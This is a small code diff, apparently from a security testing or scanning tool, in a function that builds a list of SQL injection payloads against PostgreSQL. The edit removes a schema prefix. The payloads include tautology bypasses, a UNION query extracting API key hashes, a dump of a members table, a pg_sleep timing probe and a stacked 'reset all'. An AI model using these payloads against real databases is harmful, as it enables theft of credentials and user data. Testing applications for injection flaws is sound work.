@@ -18,8 +18,8 @@ function payloadsFor({ tables }: Target): string[] {
   return [
     ...updates.slice(0, 2),
     `' or true --`,
-    `' union select secret_hash::text from app.api_keys --`,
-    `'||(select string_agg(t::text, ',') from app.members as t)||'`,
+    `' union select secret_hash::text from api_keys --`,
+    `'||(select string_agg(t::text, ',') from members as t)||'`,
     `' and (select pg_sleep(3)) is null --`,
     `\\'; reset all; --`,
     `") or 1=1 --`,
